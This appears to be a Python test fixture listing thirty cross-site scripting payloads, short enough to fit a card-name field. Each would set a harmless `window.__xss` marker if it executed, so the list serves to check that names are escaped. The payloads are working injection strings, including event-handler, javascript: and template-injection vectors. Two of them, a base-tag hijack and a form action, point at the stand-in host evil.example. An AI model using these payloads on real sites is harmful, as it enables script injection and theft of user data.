"""Thirty ways in which a name can try to be more than a name. Each sets `window.__xss` if it ever
runs; none may exceed the hundred characters that a card's name has."""

RUN = "window.__xss=1"

PAYLOADS = [
    f"<script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</bdi></td><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"\"><img src=x onerror={RUN}>",
    f"'><img src=x onerror='{RUN}'>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<iframe srcdoc=\"<script>parent.__xss=1</script>\">",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<a href=\"javascript:{RUN}\">x</a>",
    f"javascript:{RUN}",
    f"\" onmouseover=\"{RUN}\" autofocus x=\"",
    f"' onfocus='{RUN}' tabindex='1",
    f"` onload=`{RUN}`",
    f"<style>@import 'javascript:{RUN}';</style>",
    f"<link rel=stylesheet href=javascript:{RUN}>",
    f"<base href=//evil.example><p>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<form action=//evil.example><button>x",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"<!--><script>{RUN}</script>-->",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"{{{{constructor.constructor('{RUN}')()}}}}${{{RUN}}}",
]

assert len(PAYLOADS) == len(set(PAYLOADS)) == 30
assert all(len(payload) <= 100 for payload in PAYLOADS)
